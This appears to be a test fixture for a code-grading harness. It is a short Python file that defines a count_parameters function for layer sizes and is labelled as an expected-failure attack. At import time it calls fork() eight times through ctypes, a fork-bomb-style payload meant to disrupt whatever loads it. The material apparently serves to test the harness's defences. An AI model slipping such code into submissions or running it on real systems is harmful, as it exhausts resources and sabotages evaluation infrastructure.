# expect: failed * count_parameters
# attack: Forks eight times over while it is loaded; nobody is left that has loaded it alone.
import ctypes

fork = ctypes.CDLL(None).fork
for _ in range(8):
    fork()


def count_parameters(layer_sizes):
    return sum((a + 1) * b for a, b in zip(layer_sizes, layer_sizes[1:]))
